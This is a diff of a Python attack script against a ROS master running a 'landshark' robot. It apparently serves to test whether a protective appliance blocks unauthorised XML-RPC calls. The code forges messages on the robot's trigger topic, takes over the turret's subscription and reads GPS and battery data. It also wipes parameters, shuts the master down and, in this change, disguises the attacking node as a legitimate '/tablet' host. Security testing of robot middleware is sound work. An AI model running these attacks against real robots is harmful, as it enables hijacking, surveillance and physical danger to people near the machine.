@@ -19,10 +19,11 @@ from urllib.parse import urlsplit
 MASTER = os.environ["ROS_MASTER_URI"]
 MY_ADDRESS = os.environ["ROS_IP"]
 MY_API = f"http://{MY_ADDRESS}:40404/"  # nobody listens there
-ME = "/attacker"
-VICTIM = "/landshark_battery"
-GPS = "/landshark/gps"
+ME = "/tablet"  # a name of this host: whoever took the host over may use it
+VICTIM = "/landshark_laser"
+BATTERY, GPS = "/landshark/battery", "/landshark/gps"
 LIMIT = 3.0
+NODE_LIMIT = 15.0  # behind a master that does not speak to it, a node tries for ever
 RELAY_PORTS = range(19001, 19061)  # where the appliance's node ports usually begin
 FAILURES = (OSError, http.client.HTTPException, xmlrpc.client.Error)
 
@@ -61,20 +62,27 @@ def take_over_the_operator():
 
 
 def forge_the_trigger():
-    """Publish on the trigger topic under a name of one's own."""
-    return forge("stranger")
+    """Publish on the trigger topic under one's own name."""
+    return forge(ME.strip("/"))
 
 
 def forge(name):
     """Run a rospy node that fires."""
     command = ["/usr/bin/python3", str(Path(__file__).with_name("forger.py")), name]
-    done = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)
+    try:
+        done = subprocess.run(command, capture_output=True, text=True, timeout=NODE_LIMIT, check=False)
+    except subprocess.TimeoutExpired:
+        return (
+            False,
+            f"a node /{name} that publishes /landshark_control/trigger",
+            [-1, "it could not even start"],
+        )
     said = [json.loads(line) for line in done.stdout.splitlines() if line.startswith("{")]
     drivers = said[-1]["drivers"] if said else 0
     # rospy tells the master's reason in its log, by which a person would read it, too
     reasons = [line for line in done.stderr.splitlines() if line.strip()]
     answer = said or reasons[-1:] or [f"the node ended with {done.returncode}"]
-    return drivers > 0, f"registerPublisher(/{name}, /landshark_control/trigger)", answer
+    return drivers > 0, f"a node /{name} that publishes /landshark_control/trigger", answer
 
 
 def replace_a_driver():
@@ -86,16 +94,28 @@ def replace_a_driver():
     return granted(answer), "registerSubscriber(/landshark_turret, /landshark_control/trigger)", answer
 
 
+def watch_the_battery():
+    """Read the charge of the battery: what the host is there for."""
+    return subscribe(BATTERY)
+
+
 def spy_on_gps():
-    """Subscribe to where the robot is."""
-    answer = call(MASTER, "registerSubscriber", ME, GPS, "*", MY_API)
+    """Read where the robot is."""
+    return subscribe(GPS)
+
+
+def subscribe(topic):
+    """Get one message of a topic, as a subscriber does."""
+    tried = f"registerSubscriber({ME}, {topic})"
+    answer = call(MASTER, "registerSubscriber", ME, topic, "*", MY_API)
     if not granted(answer):
-        return False, f"registerSubscriber({ME}, {GPS})", answer
+        return False, tried, answer
+    call(MASTER, "unregisterSubscriber", ME, topic, MY_API)
     for publisher in answer[2]:
-        offered = call(publisher, "requestTopic", ME, GPS, [["TCPROS"]])
-        if granted(offered) and reads(offered[2][1], offered[2][2], GPS):
-            return True, f"registerSubscriber({ME}, {GPS})", ["read the position from", *offered[2]]
-    return False, f"registerSubscriber({ME}, {GPS})", answer
+        offered = call(publisher, "requestTopic", ME, topic, [["TCPROS"]])
+        if granted(offered) and reads(offered[2][1], offered[2][2], topic):
+            return True, tried, [1, f"a message from {offered[2][1]}:{offered[2][2]}"]
+    return False, tried, answer
 
 
 def reads(host, port, topic):
@@ -170,10 +190,11 @@ def wipe_the_parameters():
 def stop_the_master():
     """Shut the master itself down."""
     answer = call(MASTER, "shutdown", ME, "goodbye")
-    return granted(answer), "shutdown() at the master", answer
+    return granted(answer), "shutdown() of the master (shutdownMaster)", answer
 
 
 ATTACKS = {
+    "watch the battery": watch_the_battery,
     "look around": look_around,
     "take over the operator": take_over_the_operator,
     "forge the trigger": forge_the_trigger,
